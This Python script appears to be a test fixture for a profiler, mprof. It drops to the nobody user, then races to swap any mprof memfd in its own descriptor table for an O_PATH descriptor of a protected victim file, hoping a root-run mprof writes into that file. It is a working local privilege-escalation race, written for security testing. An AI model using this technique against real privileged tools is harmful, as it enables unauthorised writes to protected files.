"""A hostile target for attach: a thread watches its own descriptors and, whenever one is a
memory file of mprof's (`memfd:mprof-...`), puts an O_PATH descriptor of VICTIM (a file this
user cannot read or write) in its place with dup2, hoping that root's mprof reopens
`/proc/PID/fd/N` and writes into VICTIM.

usage: hostile_fd_swap.py VICTIM
Started as root, it becomes `nobody` first (as a hostile local user would be), so that it runs
from interpreters nobody could not start itself. Prints "ready PID", then "swapped N" for every
swap it made.
"""
import ctypes
import os
import sys
import threading
import time

if os.getuid() == 0:
    os.setgroups([])
    os.setgid(65534)
    os.setuid(65534)
    # Changing uid clears the dumpable flag; a hostile user's own process would have it.
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
assert os.getuid() == 65534

victim = os.open(sys.argv[1], os.O_PATH)
swaps = 0


def racer():
    global swaps
    while True:
        try:
            fds = os.listdir("/proc/self/fd")
        except OSError:
            continue
        for name in fds:
            fd = int(name)
            if fd == victim:
                continue
            try:
                link = os.readlink("/proc/self/fd/" + name)
            except OSError:
                continue
            if link.startswith("/memfd:mprof"):
                try:
                    os.dup2(victim, fd)
                    swaps += 1
                    print("swapped", fd, flush=True)
                except OSError:
                    pass


threading.Thread(target=racer, daemon=True).start()
print("ready", os.getpid(), flush=True)
while True:
    time.sleep(0.01)
